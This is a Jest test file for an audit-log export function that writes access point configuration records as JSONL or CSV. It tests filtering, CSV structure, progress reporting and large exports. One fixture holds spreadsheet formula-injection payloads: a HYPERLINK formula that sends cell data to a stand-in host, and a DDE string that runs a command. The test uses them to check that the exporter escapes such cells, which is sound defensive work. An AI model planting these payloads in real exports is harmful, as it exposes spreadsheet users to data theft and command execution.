import { PassThrough } from 'node:stream';
import { exportAudit, EXPORT_COLUMNS, type ExportOptions } from '../../audit';
import { createAuditActivities } from '../../activities/audit';
import { createTestDatabase, type TestDatabase } from '../support/database';
import { entry, resetChain, testKeys } from './helpers';

/** Minimal RFC 4180 reader, enough to check what a spreadsheet would see. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  const endCell = () => {
    row.push(cell);
    cell = '';
  };
  for (let i = 0; i < text.length; i += 1) {
    const c = text[i];
    if (quoted && c === '"' && text[i + 1] === '"') {
      cell += '"';
      i += 1;
    } else if (c === '"') {
      quoted = !quoted;
    } else if (!quoted && c === ',') {
      endCell();
    } else if (!quoted && c === '\n') {
      endCell();
      rows.push(row);
      row = [];
    } else {
      cell += c;
    }
  }
  if (cell || row.length > 0) {
    endCell();
    rows.push(row);
  }
  return rows;
}

describe('exportAudit', () => {
  let db: TestDatabase;
  const keys = testKeys();
  const times: string[] = [];

  const run = async (options: ExportOptions, onProgress?: (n: number) => void) => {
    const out = new PassThrough();
    const chunks: Buffer[] = [];
    out.on('data', (chunk: Buffer) => chunks.push(chunk));
    const count = await exportAudit(db.pool, options, out, onProgress);
    return { count, text: Buffer.concat(chunks).toString('utf8') };
  };
  const jsonl = async (options: Omit<ExportOptions, 'format'>) =>
    (await run({ ...options, format: 'jsonl' })).text
      .split('\n')
      .filter(Boolean)
      .map((line) => JSON.parse(line) as Record<string, unknown>);

  beforeAll(async () => {
    db = await createTestDatabase();
    await resetChain(db.pool);
    const audit = createAuditActivities(db.pool, keys);
    // Positions 1..5, alternating APs, each recorded at a later millisecond.
    for (const apId of ['ap-1', 'ap-2', 'ap-1', 'ap-2', 'ap-1']) {
      await audit.recordAudit(entry({ apId }));
      await new Promise((resolve) => setTimeout(resolve, 5));
    }
    await audit.recordAudit(
      entry({
        apId: 'ap-evil',
        eventType: '@SUM(A1)',
        reason: '=HYPERLINK("http://x.example/?"&A1)',
        operator: "+cmd|' /C calc'!A0",
        rollbackToken: '-2+3',
        executionStatus: '\tTAB',
        actionType: '\rCR',
        details: { note: 'harmless, a "quote", and\na newline' },
      }),
    );
    const { rows } = await db.pool.query('SELECT recorded_at FROM audit_records ORDER BY chain_position');
    times.push(...rows.map((r: { recorded_at: Date }) => r.recorded_at.toISOString()));
  });
  afterAll(() => db?.drop());

  it('exports every record as JSONL, one per line, with all columns', async () => {
    const records = await jsonl({});
    expect(records).toHaveLength(6);
    expect(records.map((r) => r.chain_position)).toEqual([1, 2, 3, 4, 5, 6]);
    expect(Object.keys(records[0])).toEqual(expect.arrayContaining([...EXPORT_COLUMNS]));
    expect(records[0]).toMatchObject({
      ap_id: 'ap-1',
      configuration_changes: [{ param: 'radio.5g.channel', old_value: 52, new_value: 36 }],
      // Microseconds, as signed (the JS Date of `times` has milliseconds).
      recorded_at: expect.stringMatching(new RegExp(`^${times[0].slice(0, 23)}\\d{3}Z$`)),
    });
  });

  it('filters by AP', async () => {
    expect((await jsonl({ apId: 'ap-1' })).map((r) => r.chain_position)).toEqual([1, 3, 5]);
    expect((await jsonl({ apId: 'ap-2' })).map((r) => r.chain_position)).toEqual([2, 4]);
    expect(await jsonl({ apId: 'nope' })).toEqual([]);
  });

  it('filters by time range, from inclusive, to exclusive, and by AP and time together', async () => {
    expect((await jsonl({ from: times[1], to: times[3] })).map((r) => r.chain_position)).toEqual([2, 3]);
    expect((await jsonl({ from: new Date(times[3]) })).map((r) => r.chain_position)).toEqual([4, 5, 6]);
    expect((await jsonl({ to: times[1] })).map((r) => r.chain_position)).toEqual([1]);
    expect(
      (await jsonl({ apId: 'ap-1', from: times[1], to: times[5] })).map((r) => r.chain_position),
    ).toEqual([3, 5]);
  });

  it('exports CSV with a header and the same records', async () => {
    const { count, text } = await run({ format: 'csv', apId: 'ap-2' });
    expect(count).toBe(2);
    const [header, ...rows] = parseCsv(text);
    expect(header).toEqual([...EXPORT_COLUMNS]);
    expect(rows).toHaveLength(2);
    const record = Object.fromEntries(header.map((name, i) => [name, rows[0][i]]));
    expect(record).toMatchObject({
      chain_position: '2',
      ap_id: 'ap-2',
      rollback_eligible: 'false',
      manual_rollback_eligible: 'true',
      operator: '',
    });
    expect(JSON.parse(record.configuration_changes)).toEqual([
      { param: 'radio.5g.channel', old_value: 52, new_value: 36 },
    ]);
  });

  it('escapes cells that a spreadsheet would run as formulas', async () => {
    const { text } = await run({ format: 'csv', apId: 'ap-evil' });
    const [header, row] = parseCsv(text);
    const record = Object.fromEntries(header.map((name, i) => [name, row[i]]));
    expect(record.reason).toBe('\'=HYPERLINK("http://x.example/?"&A1)');
    expect(record.operator).toBe("'+cmd|' /C calc'!A0");
    expect(record.rollback_token).toBe("'-2+3");
    expect(record.event_type).toBe("'@SUM(A1)");
    expect(record.execution_status).toBe("'\tTAB");
    expect(record.action_type).toBe("'\rCR");
    expect(JSON.parse(record.details)).toEqual({ note: 'harmless, a "quote", and\na newline' });
    expect(record.confidence).toBe('1');
  });

  it('writes only a header when nothing matches, and reports progress', async () => {
    const progress: number[] = [];
    const { count, text } = await run({ format: 'csv', apId: 'nope' }, (n) => progress.push(n));
    expect(count).toBe(0);
    expect(parseCsv(text)).toEqual([[...EXPORT_COLUMNS]]);
    expect(progress).toEqual([0]);
  });

  it('rejects a bad date or format', async () => {
    await expect(run({ format: 'jsonl', from: 'yesterday' })).rejects.toThrow(/"from" is not a valid date/);
    await expect(run({ format: 'xml' as 'csv' })).rejects.toThrow(/format must be csv or jsonl/);
  });

  // Last: it adds rows the other tests do not expect.
  it('streams large exports, reporting progress every 1000 rows', async () => {
    await db.pool.query(
      `INSERT INTO audit_records
       SELECT gen_random_uuid(), 100 + i, now(), 'bulk-' || i, 'LOAD_IMBALANCE', 'LOW', 'ap-bulk', 'STEER',
              '[]', null, true, 'bulk', 0.5, 'APPLIED', false, false, null, '{}', 'bulk-' || i, 'k1',
              repeat('0', 64), repeat('0', 64), md5(i::text) || md5(i::text)
       FROM generate_series(1, 2500) AS i`,
    );
    const progress: number[] = [];
    const { count, text } = await run({ format: 'jsonl', apId: 'ap-bulk' }, (n) => progress.push(n));
    expect(count).toBe(2500);
    expect(text.split('\n').filter(Boolean)).toHaveLength(2500);
    expect(progress).toEqual([1000, 2000, 2500]);
  });
});
